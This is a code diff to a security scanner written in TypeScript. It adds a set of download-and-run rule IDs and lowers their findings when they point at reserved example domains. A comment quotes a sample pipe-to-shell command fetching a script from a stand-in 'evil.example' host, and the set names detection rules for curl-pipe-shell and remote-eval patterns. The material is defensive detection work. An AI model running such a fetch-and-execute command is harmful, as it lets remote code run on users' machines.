@@ -595,8 +595,13 @@ function lowerQuotedExamples(findings: Finding[], doc: NormalDoc, file: string):
  * sample command or a lesson's payload shows the shape and sends nothing. Not when the document points
  * names somewhere of its own (a hosts-file entry, curl --resolve or --connect-to, a proxy).
  */
+/**
+ * Session 8: a download run from a reserved name fetches nothing either (`curl https://evil.example/x.sh | sh`
+ * in a lesson's bad example): the same lowering as a send, for the rules that run what a URL serves.
+ */
+const FETCH_RUNS = new Set(['sc-curl-pipe-shell', 'sc-curl-pipe-shell-insecure', 'sc-iex-download', 'sc-iex-download-insecure', 'sc-install-script-hook', 'exec-fetch-eval', 'exec-fetch-eval-script', 'exec-eval-remote', 'exec-download-run-binary'])
 function lowerReservedSends(findings: Finding[], doc: NormalDoc, body: string): void {
-  const candidates = findings.filter((f) => f.category === 'exfiltration' && rank(f.severity) > rank('medium'))
+  const candidates = findings.filter((f) => (f.category === 'exfiltration' || FETCH_RUNS.has(f.ruleId)) && rank(f.severity) > rank('medium'))
   if (!candidates.length || redirectsNames(body)) return
   // A finding on a unit read across lines (a sentence, a joined command) is judged on all of its lines.
   const endOf = new Map<number, number>()
